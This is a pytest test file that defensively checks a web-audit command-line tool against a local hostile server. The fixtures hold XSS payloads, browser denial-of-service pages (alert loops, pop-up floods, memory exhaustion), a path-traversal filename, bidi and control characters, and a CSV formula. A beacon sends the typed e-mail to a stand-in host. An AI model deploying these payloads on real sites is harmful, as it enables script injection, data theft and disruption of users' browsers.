"""Pages and servers that mean harm, through the command line: a sentence or a gap, a whole bundle, no traceback."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from conftest import Ran, Undertow, run

pytestmark = pytest.mark.browser

FORM = "<form action=/p method=post><label>E-mail <input type=email name=email></label><button>Go</button></form>"
NAMES = """<title>&lt;script&gt;alert(1)&lt;/script&gt;&#x202e;</title><meta charset=utf-8>
<form action=/p method=post><label>Mail "&gt;&lt;script&gt;alert(2)&lt;/script&gt;&#x202e;<input type=email name=email
 id='a"&gt;<img src=x onerror=alert(3)>'></label><button>Go</button></form>
<script src="/%3Cimg%20src=x%20onerror=alert(4)%3E.js"></script><script src="/%E2%80%AEsj.exe%1b[31m%07.js"></script>
<script>document.forms[0].onsubmit = () => {
  const mail = document.forms[0].email.value;
  navigator.sendBeacon('http://a_b--.test:PORT/=HYPERLINK(1)<svg onload=alert(5)>\\u202e?' + mail);
  localStorage['<script>alert(6)</' + 'script>\\u0000\\u202e'] = '\\ud800<b>';
};
eval("navigator.userAgent\\n//# sourceURL=<img src=x onerror=alert(7)>\\u202e\\u001b[31m");</script>"""
PAGES = {
    "/dialogs": "<script>fetch('/first'); for (;;) alert('more')</script>",
    "/pop-ups": "<script>fetch('/first'); setInterval(() => open('/pop-ups?' + Math.random()), 5)</script>" + FORM,
    "/memory": "<script>fetch('/first').then(() => setTimeout(() => { const a = []; "
    "for (;;) a.push(new Array(1e6).fill(Math.random())) }, 300))</script>",
    "/garbage": "<script src=/garbage.js></script><script src=/deep.js></script><script>fetch('/first')</script>",
    "/names": NAMES,
    "/calm": "<title>Calm</title><script>fetch('/first')</script>",
}
SCRIPTS = {"/garbage.js": bytes(range(256)) * 2000, "/deep.js": b"(([[{{" * 20_000}


class Handler(BaseHTTPRequestHandler):
    """Answers each path in its own bad way."""

    server: ThreadingHTTPServer

    def do_GET(self) -> None:
        path = self.path.partition("?")[0]
        if path == "/loop":
            self.answer(b"", status=302, headers={"Location": "/loop"})
        elif path == "/nothing":
            self.answer(b"", status=204)
        elif path == "/broken":
            self.answer(b"<h1>oops</h1>", status=500)
        elif path == "/file":
            self.answer(b"x", headers={"Content-Disposition": "attachment; filename=../../x"})
        elif path == "/endless":
            self.endless()
        elif path in SCRIPTS:
            self.answer(SCRIPTS[path], "text/javascript")
        elif path.endswith(".js"):
            self.answer(
                "navigator.platform; /* \u202e</script><script>alert(8)</script> */".encode(), "text/javascript"
            )
        else:
            text = PAGES.get(path, "").replace("PORT", str(self.server.server_port))
            self.answer(text.encode())

    do_POST = do_GET

    def answer(
        self, body: bytes, kind: str = "text/html", *, status: int = 200, headers: dict[str, str] | None = None
    ) -> None:
        """A whole answer."""
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def endless(self) -> None:
        """A document that is never whole."""
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        try:
            self.wfile.write(f"<script>fetch('/first')</script>{FORM}".encode())
            while True:
                self.wfile.write(b"<p>more")
                time.sleep(0.02)
        except OSError:
            return

    def log_message(self, format: str, *args: object) -> None:
        pass


@dataclass(frozen=True)
class Audit:
    """One audit of a bad page, as it ended."""

    ran: Ran
    folder: Path

    @property
    def kinds(self) -> set[str]:
        """Kinds of its gaps."""
        return {gap["kind"] for gap in self.result["gaps"]}

    @property
    def result(self) -> Any:
        """What --json printed."""
        return self.ran.json

    def file(self, name: str) -> str:
        """The text of a report."""
        return (self.folder / name).read_text("utf-8")


class Audits:
    """Audits of all bad pages, begun when first asked for, two at a time."""

    def __init__(self, port: int, folder: Path) -> None:
        self._port = port
        self._folder = folder
        self._pool = ThreadPoolExecutor(2)
        self._begun: dict[str, Future[Ran]] = {}

    def begin(self, *paths: str) -> None:
        """Put these into the queue."""
        for path in paths:
            url, out = f"http://127.0.0.1:{self._port}{path}", self._folder / path.strip("/")
            self._begun[path] = self._pool.submit(
                run, "audit", url, "--out", out, "--json", "--vantage", "china", "--timeout", "12", "--fail-on", "never"
            )

    def of(self, path: str) -> Audit:
        """The finished audit of a page."""
        return Audit(self._begun[path].result(), self._folder / path.strip("/"))

    def close(self) -> None:
        """Wait for those that run, forget the others."""
        self._pool.shutdown(cancel_futures=True)


@pytest.fixture(scope="module")
def port() -> Iterator[int]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_port
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def audits(port: int, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Audits]:
    started = Audits(port, tmp_path_factory.mktemp("hostile"))
    started.begin("/names", "/memory", "/pop-ups", "/endless", "/garbage", "/dialogs", "/loop", "/nothing", "/file")
    started.begin("/broken")
    yield started
    started.close()


def whole(audit: Audit, undertow: Undertow) -> bool:
    """Whether bundle and reports are there, and the bundle is unaltered."""
    names = {path.name for path in audit.folder.iterdir()}
    assert names == {"bundle.wacz", "result.json", "report.html", "result.sarif", "flows.csv"}
    return bool(undertow("verify", audit.folder / "bundle.wacz").code == 0)


# -- no page at all: one sentence, exit code 2, nothing left ---------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "sentence"),
    [
        ("/loop", "/loop redirects in a loop."),
        ("/nothing", "/nothing answered with nothing (status 204)."),
        ("/file", "/file is a file to download (text/html), not a page."),
    ],
)
def test_a_target_without_a_page_is_said_in_one_sentence(audits: Audits, path: str, sentence: str) -> None:
    audit = audits.of(path)
    assert audit.ran.code == 2
    assert audit.ran.out == ""
    last = audit.ran.err.splitlines()[-1]
    assert last.startswith("undertow: http://127.0.0.1:")
    assert last.endswith(sentence)
    assert not audit.folder.exists()


def test_a_name_that_does_not_resolve_is_said_in_one_sentence(undertow: Undertow, tmp_path: Path) -> None:
    ran = undertow("audit", "http://no-such-host.invalid/", "--out", tmp_path / "a", "--vantage", "china")
    assert ran.code == 2
    assert ran.err.splitlines()[-1].startswith("undertow: The name no-such-host.invalid does not resolve.")


def test_a_certificate_that_nobody_vouches_for_is_said_with_what_to_do(undertow: Undertow, tmp_path: Path) -> None:
    made = "openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem -days 2 -subj /CN=localhost"
    subprocess.run(made.split(), cwd=tmp_path, check=True, capture_output=True)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(tmp_path / "cert.pem", tmp_path / "key.pem")
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"https://localhost:{server.server_port}/calm"
    ran = undertow("audit", url, "--out", tmp_path / "a", "--vantage", "china")
    server.shutdown()
    server.server_close()
    assert ran.code == 2
    last = ran.err.splitlines()[-1]
    assert "The certificate of localhost is not trusted (net::ERR_CERT_AUTHORITY_INVALID)" in last
    assert "--map localhost=ADDRESS:PORT --ca FILE" in last


# -- a page, and then harm: a gap, and what was seen until then is kept ----------------------------------------------


@pytest.mark.parametrize(
    ("path", "gaps"),
    [
        ("/dialogs", {"dialogs-without-end"}),
        ("/memory", {"target-crashed", "visit-timed-out"}),
        ("/endless", {"document-without-end", "visit-timed-out"}),
        ("/garbage", {"script-not-parsed"}),
        ("/broken", {"target-not-an-app"}),
    ],
)
def test_harm_becomes_a_gap_in_a_whole_bundle(audits: Audits, undertow: Undertow, path: str, gaps: set[str]) -> None:
    audit = audits.of(path)
    assert audit.ran.code == 3, "a gap that could hide findings"
    assert audit.kinds & gaps
    assert whole(audit, undertow)
    assert "clean" not in audit.ran.out


def test_pop_ups_do_not_keep_the_journey_from_its_end(audits: Audits, undertow: Undertow) -> None:
    audit = audits.of("/pop-ups")
    assert audit.ran.code in (0, 3)
    assert "fill form" in audit.result["visits"][0]["steps"]
    assert whole(audit, undertow)


def test_the_browser_killed_from_outside_leaves_a_whole_partial_bundle(port: int, tmp_path: Path) -> None:
    out = tmp_path / "killed"
    url = f"http://127.0.0.1:{port}/endless"
    command = [sys.executable, "-m", "undertow", "audit", url, "--vantage", "china", "--json", "--out", str(out)]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert process.stderr is not None
    while "visit 1 of 1" not in process.stderr.readline():
        assert process.poll() is None
    time.sleep(4)
    for browser in browsers_of(process.pid):
        os.kill(browser, signal.SIGKILL)
    answer, error = process.communicate(timeout=60)
    assert "Traceback" not in error
    assert process.returncode == 3, error
    assert "browser-died" in {gap["kind"] for gap in json.loads(answer)["gaps"]}
    assert run("verify", out / "bundle.wacz").code == 0


def browsers_of(parent: int) -> list[int]:
    """Processes that this one has started itself and that have a profile: browsers, not their helpers."""
    children = Path(f"/proc/{parent}/task/{parent}/children").read_text().split()
    return [int(c) for c in children if b"--user-data-dir=" in Path(f"/proc/{c}/cmdline").read_bytes()]


# -- names that want to be more than names ---------------------------------------------------------------------------


class Elements(HTMLParser):
    """Elements and attributes of a page, as a browser would make them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def test_names_with_markup_stay_text_in_the_report(audits: Audits) -> None:
    parser = Elements()
    parser.feed(audits.of("/names").file("report.html"))
    for tag, attributes in parser.found:
        assert not [name for name in attributes if name.startswith("on")], (tag, attributes)
        assert attributes.get("src") != "x"
    assert "Content-Security-Policy" in audits.of("/names").file("report.html")


@pytest.mark.parametrize("name", ["report.html", "result.sarif", "flows.csv"])
def test_no_file_holds_control_characters_or_turned_text(audits: Audits, name: str) -> None:
    text = audits.of("/names").file(name)
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]", text)


def test_the_json_document_is_exact_and_without_raw_control_characters(audits: Audits) -> None:
    text = audits.of("/names").file("result.json")
    assert json.loads(text)["target"].endswith("/names")
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", text)


def test_the_terminal_gets_no_control_characters_or_turned_text(audits: Audits, undertow: Undertow) -> None:
    bundle = audits.of("/names").folder / "bundle.wacz"
    for told in (undertow("show", bundle).out, undertow("show", bundle, "a_b--.test").out, audits.of("/names").ran.err):
        assert told
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]", told)


def test_no_cell_of_the_table_is_a_formula(audits: Audits) -> None:
    rows = list(csv.reader(io.StringIO(audits.of("/names").file("flows.csv"))))
    assert any("a_b--.test" in cell for row in rows for cell in row)
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t"))]


# -- bundles that are not what they say ------------------------------------------------------------------------------


def test_damaged_bundles_are_refused_in_one_sentence(audits: Audits, undertow: Undertow, tmp_path: Path) -> None:
    sound = (audits.of("/names").folder / "bundle.wacz").read_bytes()
    middle = len(sound) // 2
    damaged = {
        "cut": sound[:middle],
        "edited": sound[:middle] + bytes([sound[middle] ^ 1]) + sound[middle + 1 :],
        "empty": b"",
        "text": b"no bundle at all",
    }
    for name, data in damaged.items():
        path = tmp_path / f"{name}.wacz"
        path.write_bytes(data)
        for command in (("verify", path), ("analyze", path, "--out", tmp_path / "again"), ("show", path)):
            ran = undertow(*command)
            assert ran.code in (1, 2), (name, command)
            assert ran.out + ran.err, (name, command)


def test_a_port_that_speaks_no_http_is_said_in_one_sentence(undertow: Undertow, tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def hang_up() -> None:
            while True:
                try:
                    connection, _ = listener.accept()
                except OSError:
                    return
                connection.close()

        threading.Thread(target=hang_up, daemon=True).start()
        url = f"http://127.0.0.1:{listener.getsockname()[1]}/"
        ran = undertow("audit", url, "--out", tmp_path / "a", "--vantage", "china")
        listener.shutdown(socket.SHUT_RDWR)
    assert ran.code == 2
    assert "closed the connection without an answer" in ran.err.splitlines()[-1]
